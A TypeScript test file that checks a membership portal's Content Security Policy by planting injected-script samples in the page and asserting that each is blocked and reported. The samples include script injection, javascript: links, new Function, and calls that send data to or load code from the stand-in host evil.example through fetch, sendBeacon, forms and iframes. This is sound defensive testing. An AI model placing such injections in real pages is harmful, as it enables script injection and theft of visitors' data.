import { expect, test } from 'vitest'
import { openPortal } from '../support/browser/launch'

/** What somebody who has got a foot into the page would do, and the rule that stops it. */
const planted: Readonly<Record<string, string>> = {
  'a script in the page': `
    const script = document.createElement('script')
    script.append('window.ran = true')
    document.head.append(script)`,
  'a script of somebody else': `
    const script = document.createElement('script')
    script.src = 'https://evil.example/script.js'
    document.head.append(script)`,
  'a handler in an attribute': `
    document.body.setAttribute('onclick', 'window.ran = true')
    document.body.click()`,
  // A frame later: what a test runs itself is allowed more than the page.
  'text run as a program': `requestAnimationFrame(() => {
    try { new Function('window.ran = true')() } catch {}
  })`,
  'an address that is a program': `
    const link = document.createElement('a')
    link.href = 'javascript:window.ran = true'
    document.body.append(link)
    link.click()`,
  'a call to somebody else': `fetch('https://evil.example/', { method: 'POST' }).catch(() => undefined)`,
  'a message to somebody else': `navigator.sendBeacon('https://evil.example/', 'secret')`,
  'a picture over an open line': `
    const image = new Image()
    image.src = 'http://evil.example/secret.png'`,
  'a frame of somebody else': `
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)`,
  'styles in the page': `
    const style = document.createElement('style')
    style.append('body { background: url("https://evil.example/") }')
    document.head.append(style)`,
  'styles of somebody else': `
    const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.href = 'https://evil.example/styles.css'
    document.head.append(link)`,
  'a form to somebody else': `
    const form = document.createElement('form')
    form.action = 'https://evil.example/'
    document.body.append(form)
    form.submit()`,
  'another base of addresses': `
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.append(base)`,
  'an object of somebody else': `
    const object = document.createElement('object')
    object.data = 'https://evil.example/object'
    document.body.append(object)`,
  'a worker made of text': `try { new Worker('data:text/javascript,') } catch {}`,
  'markup made of text, which is refused in time': `document.createElement('div').innerHTML = '<b>bold</b>'`,
}

test.each(Object.entries(planted))(
  '%s is a problem of the page, and fails a visit',
  async (_what, script) => {
    const { page, problems, close } = await openPortal()
    await page.goto('/membership')
    await page.getByRole('heading', { level: 1 }).waitFor()
    expect(problems).toEqual({ refused: [], errors: [] })

    await page.evaluate(script)
    await expect
      .poll(() => problems.errors)
      .toContainEqual(expect.stringMatching(/^Violation \((enforce|report)\)/))
    expect(await page.evaluate('window.ran')).toBeUndefined()
    await expect(close()).rejects.toThrow('problems of the page')
  },
)
